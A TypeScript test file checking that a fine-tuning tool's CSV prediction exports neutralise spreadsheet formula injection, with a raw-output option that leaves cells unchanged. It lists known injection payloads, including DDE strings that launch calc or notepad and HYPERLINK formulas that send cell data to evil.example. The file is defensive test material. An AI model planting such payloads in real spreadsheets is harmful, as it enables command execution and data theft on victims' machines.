/**
 * CSV formula injection (issue 12.4): every predictions CSV (predictFile / predictFileWith, the
 * run's evaluation predictions export, `finetune predict --output`, which uses predictFile)
 * neutralises cells a spreadsheet would run as a formula, the generated predicted_label and
 * prob_<label> header included, unless the caller asks for raw output.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import type { Prediction } from '../../src/main/engine/inference';
import { predictFileWith, writeEvalPredictionsCsv, type TextClassifier } from '../../src/main/export/index';
import { csvCell, csvLine, looksLikeFormula } from '../../src/main/export/predictions';
import { csvExportOptionsSchema } from '../../src/shared/schema';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ft-csvinj-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

/** OWASP's CSV injection payloads, and the classic DDE / hyperlink ones. */
const PAYLOADS = [
  '=1+1',
  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C notepad'!'A1'",
];

/** Labels a poisoned training set could carry: they become predicted_label in every row. */
class PoisonedClassifier implements TextClassifier {
  readonly labels = ['=HYPERLINK("http://evil.example","x")', 'ok'];
  async predict(texts: readonly string[]): Promise<Prediction[]> {
    return texts.map(() => ({ label: this.labels[0]!, score: 0.9, scores: { [this.labels[0]!]: 0.9, ok: 0.1 } }));
  }
}

function readCsv(file: string): string[][] {
  return parse(fs.readFileSync(file, 'utf8'), { relax_column_count: false }) as string[][];
}

describe('CSV formula injection', () => {
  it.each(PAYLOADS)('neutralises %j: a quote prefix, the whole cell quoted', (payload) => {
    expect(looksLikeFormula(payload)).toBe(true);
    const cell = csvCell(payload);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(parse(csvLine([payload, 'x']))[0]).toEqual([`'${payload}`, 'x']);
    // Raw output keeps the cell as it was (RFC 4180 quoting only).
    expect(parse(csvLine([payload, 'x'], { csvInjectionSafe: false }))[0]).toEqual([payload, 'x']);
  });

  it('leaves plain numbers and ordinary text alone', () => {
    for (const v of ['-1.5', '+3', '0.750000', '1e-5', 'hello = world', 'a-b', '']) {
      expect(looksLikeFormula(v), v).toBe(false);
      expect(parse(csvLine([v, 'end']), { relax_quotes: true })[0]![0]).toBe(v);
    }
  });

  it('predictFileWith: input cells and the generated predicted_label are neutralised; raw keeps them', async () => {
    const input = path.join(dir, 'poisoned.csv');
    fs.writeFileSync(input, 'text,note\r\n' + PAYLOADS.map((p, i) => `"${p.replace(/"/g, '""')} headline ${i}","${p.replace(/"/g, '""')}"`).join('\r\n') + '\r\n');
    const safe = path.join(dir, 'safe.csv');
    await predictFileWith(new PoisonedClassifier(), input, safe, { textColumns: ['text'] });
    const rows = readCsv(safe);
    const header = rows[0]!;
    // The prob_ prefix already keeps a label's column name from starting with a formula.
    expect(header).toContain('prob_=HYPERLINK("http://evil.example","x")');
    const labelCol = header.indexOf('predicted_label');
    const noteCol = header.indexOf('note');
    for (const [i, row] of rows.slice(1).entries()) {
      expect(row[labelCol]).toBe(`'=HYPERLINK("http://evil.example","x")`);
      expect(row[noteCol]).toBe(`'${PAYLOADS[i]}`);
    }
    // No cell of the file starts with a formula character.
    for (const row of rows) for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);

    const raw = path.join(dir, 'raw.csv');
    await predictFileWith(new PoisonedClassifier(), input, raw, { textColumns: ['text'], csvInjectionSafe: false });
    const rawRows = readCsv(raw);
    expect(rawRows[1]![labelCol]).toBe('=HYPERLINK("http://evil.example","x")');
    expect(rawRows.slice(1).map((r) => r[noteCol])).toEqual(PAYLOADS);
  });

  it("the run's evaluation predictions export neutralises texts and labels", async () => {
    const labels = ['@SUM(1+1)', 'ok'];
    const jsonl = path.join(dir, 'eval_predictions.jsonl');
    fs.writeFileSync(jsonl, [
      JSON.stringify({ index: 0, text: '=1+1', label: 0, predicted: 0, probs: [0.8, 0.2] }),
      JSON.stringify({ index: 1, text: '-2+3', label: 1, predicted: 0, probs: [0.6, 0.4] }),
    ].join('\n') + '\n');
    const out = path.join(dir, 'eval.csv');
    await writeEvalPredictionsCsv(jsonl, labels, out);
    const rows = readCsv(out);
    expect(rows[1]!.slice(0, 3)).toEqual(["'=1+1", "'@SUM(1+1)", "'@SUM(1+1)"]);
    expect(rows[2]!.slice(0, 3)).toEqual(["'-2+3", 'ok', "'@SUM(1+1)"]);
    const raw = path.join(dir, 'eval-raw.csv');
    await writeEvalPredictionsCsv(jsonl, labels, raw, { csvInjectionSafe: false });
    expect(readCsv(raw)[1]!.slice(0, 3)).toEqual(['=1+1', '@SUM(1+1)', '@SUM(1+1)']);
  });

  it('the API option is typed and strict', () => {
    expect(csvExportOptionsSchema.parse({ csvInjectionSafe: false })).toEqual({ csvInjectionSafe: false });
    expect(csvExportOptionsSchema.safeParse({ raw: true }).success).toBe(false);
  });
});
